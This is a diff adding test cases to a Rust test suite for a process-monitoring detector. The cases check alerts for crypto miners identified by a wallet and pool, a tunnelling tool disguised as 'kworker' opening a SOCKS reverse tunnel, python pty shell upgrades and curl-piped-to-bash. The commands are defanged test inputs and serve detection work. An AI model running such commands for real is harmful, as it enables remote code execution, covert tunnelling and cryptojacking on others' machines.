@@ -245,6 +245,16 @@ PYTHON
         reports: &["picket_miner_executed"],
     },
     Case {
+        name: "miners by a wallet, and by what they mine",
+        prepare: "",
+        script: r#"
+env true -o pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A.rig
+env true --coin=monero
+env true --coin=gold --user=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7ot
+"#,
+        reports: &["picket_miner_executed", "picket_miner_executed"],
+    },
+    Case {
         name: "words of miners where they mean nothing",
         prepare: "echo stratum+tcp://pool.example > list; mkdir xmrig",
         script: "grep -c stratum+tcp list; ls xmrig; sh -c 'echo stratum+tcp://pool.example'",
@@ -254,6 +264,12 @@ PYTHON
         name: "an offensive tool",
         prepare: "cp /usr/bin/true nmap",
         script: "./nmap -sS 127.0.0.1",
+        reports: &["picket_suspicious_tool"],
+    },
+    Case {
+        name: "a tunnelling tool by its arguments",
+        prepare: "cp /usr/bin/true kworker",
+        script: "./kworker client https://host.example R:1080:socks",
         reports: &["picket_suspicious_tool"],
     },
     Case {
@@ -321,6 +337,25 @@ cat /dev/shm/cache
         prepare: "",
         script: "bash -c ': > /dev/tcp/127.0.0.1/9' || true",
         reports: &["picket_suspicious_command"],
+    },
+    Case {
+        name: "python makes a terminal for a shell, and a shell runs what a bare address gives",
+        prepare: "",
+        script: r#"
+python3 -c 'import pty; pty.spawn(["/usr/bin/true"])'
+sh -c 'false && curl -fsSL http://127.0.0.1:9/install.sh | bash' || true
+"#,
+        reports: &["picket_suspicious_command", "picket_suspicious_command"],
+    },
+    Case {
+        name: "a shell looks at what an address gives, and python at a terminal",
+        prepare: "",
+        script: r#"
+sh -c 'false && curl -fsSL http://127.0.0.1:9/health | grep -q ok' || true
+sh -c 'false && curl -fsSL https://get.example/list | shuf | head -1' || true
+python3 -c 'import pty'
+"#,
+        reports: &[],
     },
     Case {
         name: "netcat is told to hand a shell to others",
